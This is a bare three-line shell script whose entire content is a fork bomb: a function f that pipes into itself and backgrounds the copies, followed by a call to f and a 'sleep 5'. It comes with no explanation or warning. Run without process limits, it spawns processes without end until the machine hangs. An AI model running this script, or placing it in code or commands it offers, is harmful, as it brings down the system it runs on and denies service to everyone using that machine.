f() { f | f & }
f
sleep 5
